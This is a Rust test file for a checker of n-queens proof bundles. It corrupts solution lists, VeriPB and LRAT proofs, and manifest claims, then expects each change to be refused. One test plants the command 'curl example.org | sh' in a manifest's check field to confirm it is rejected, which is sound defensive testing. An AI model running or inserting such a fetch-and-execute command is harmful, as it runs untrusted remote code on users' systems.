//! Wrong lists of solutions, sealed with the right sizes and hashes.

use crate::support::bundle::{Bundle, line_number, with_line};

const FIVE: &str = "5 --proof veripb";
const FIVE_LRAT: &str = "5 --proof lrat";

fn without_last(text: &str) -> String {
    with_line(text, text.lines().count() - 1, |_| None)
}

#[test]
fn a_missing_solution() {
    let bundle = Bundle::of(FIVE);
    bundle.change("solutions.txt", without_last).seal();
    bundle.refused("solutions.txt lists 9 solutions, but 10 are claimed");
    // The claim fits, but the proof still logs the solution.
    bundle.recount().seal();
    let fault = bundle.fault();
    assert!(fault.starts_with("proof.pbp: line "), "{fault}");
    assert!(fault.ends_with(" is not in the list"), "{fault}");
    // Removed from the proof too: the rest no longer follows.
    bundle.change("proof.pbp", |proof| {
        let last = proof.lines().filter(|line| line.starts_with("solx")).count() - 1;
        with_line(proof, line_number(proof, last, |line| line.starts_with("solx")), |_| None)
    });
    bundle.seal();
    bundle.refused("proof.pbp: veripb says: ");

    let bundle = Bundle::of(FIVE_LRAT);
    bundle.change("solutions.txt", without_last).recount().seal();
    bundle.refused("blocked.cnf: ");
}

#[test]
fn a_doubled_solution() {
    for words in [FIVE, FIVE_LRAT] {
        let bundle = Bundle::of(words);
        bundle.change("solutions.txt", |text| {
            with_line(text, 2, |line| Some(format!("{line}\n{line}")))
        });
        bundle.recount().seal();
        bundle.refused(
            "solutions.txt: line 4: this line must come before the one above, or is the same",
        );
    }
}

#[test]
fn a_wrong_solution() {
    for words in [FIVE, FIVE_LRAT] {
        let bundle = Bundle::of(words);
        let (first, corrupted) = ("Qa1 Qb3 Qc5 Qd2 Qe4", "Qa1 Qb3 Qc5 Qd2 Qe5");
        bundle.change("solutions.txt", |text| text.replace(first, corrupted)).recount().seal();
        bundle.refused(
            "solutions.txt: line 1: no placement of this problem: Qc5 attacks Qe5 (on its row)",
        );
    }
}

/// A listed solution and a board that is none are exchanged: in the list geometry detects it, in
/// the proof the list.
#[test]
fn a_solution_swapped_with_another_board() {
    let bundle = Bundle::of(FIVE);
    bundle.change("proof.pbp", |proof| {
        with_line(proof, line_number(proof, 0, |line| line.starts_with("solx")), |_| {
            Some("solx x1 x6 x11 x16 x21;".to_owned())
        })
    });
    bundle.seal();
    let fault = bundle.fault();
    assert!(fault.starts_with("proof.pbp: line 3: the solution "), "{fault}");
    assert!(fault.ends_with(" is not in the list"), "{fault}");

    let bundle = Bundle::of(FIVE_LRAT);
    bundle.change("blocked.cnf", |text| {
        with_line(text, text.lines().count() - 1, |_| Some("-1 -6 -11 -16 -21 0".to_owned()))
    });
    bundle.seal();
    let fault = bundle.fault();
    assert!(fault.starts_with("blocked.cnf: clause "), "{fault}");
    assert!(fault.ends_with("is not the clause that forbids a listed solution"), "{fault}");
}

/// The commands and the trusted files that the manifest names.
#[test]
fn changed_commands_in_the_manifest() {
    let bundle = Bundle::of(FIVE_LRAT);
    let mut manifest = bundle.manifest();
    manifest["proofs"][0]["check"] = "curl example.org | sh".into();
    bundle.write("manifest.json", &manifest.to_string());
    bundle.refused(
        "manifest.json: the text about proof.lrat is `blocked.cnf; proof.lrat; curl example.org \
         | sh; ",
    );
    manifest = Bundle::of(FIVE).manifest();
    manifest["proofs"][0]["trusted"] = serde_json::json!([]);
    let bundle = Bundle::of(FIVE);
    bundle.write("manifest.json", &manifest.to_string());
    bundle.refused("manifest.json: the text about proof.pbp is ");
}

#[test]
fn changed_claims_in_the_manifest() {
    for (key, value, expected) in [
        (
            "solutions",
            "11",
            "manifest.json: the statement is `n-queens at n = 5 has exactly 10 solutions`, but the \
             rest says `n-queens at n = 5 has exactly 11 solutions`",
        ),
        (
            "statement",
            "P is not NP",
            "manifest.json: the statement is `P is not NP`, but the rest says ",
        ),
        ("digest", "0000000000000000-0000000000000000", "solutions.txt has the digest "),
        (
            "model",
            "queens-and-knights",
            "model.toml declares n-queens, but the manifest is about queens-and-knights",
        ),
        (
            "schema",
            "nq-sat certificate 2",
            "manifest.json: the schema is `nq-sat certificate 2`, expected `nq-sat certificate 1`",
        ),
    ] {
        let bundle = Bundle::of(FIVE_LRAT);
        bundle.claim(key, value.into());
        bundle.refused(expected);
    }
}
